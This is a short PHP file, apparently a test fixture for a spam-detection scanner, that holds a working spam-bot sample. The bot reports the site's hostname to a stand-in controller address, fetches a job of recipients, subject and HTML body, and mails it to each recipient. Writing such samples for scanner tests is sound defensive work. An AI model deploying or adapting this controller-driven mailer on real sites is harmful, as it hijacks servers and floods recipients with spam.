<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A spam bot: it asks its controller for a job (recipients, subject, body) and mails it.
$job = json_decode(file_get_contents('http://203.0.113.4/job.php?site=' . urlencode($_SERVER['HTTP_HOST'])), true);
foreach ((array) $job['rcpt'] as $to) {
    mail($to, $job['subject'], $job['body'], 'Content-Type: text/html');
}
echo count((array) $job['rcpt']);
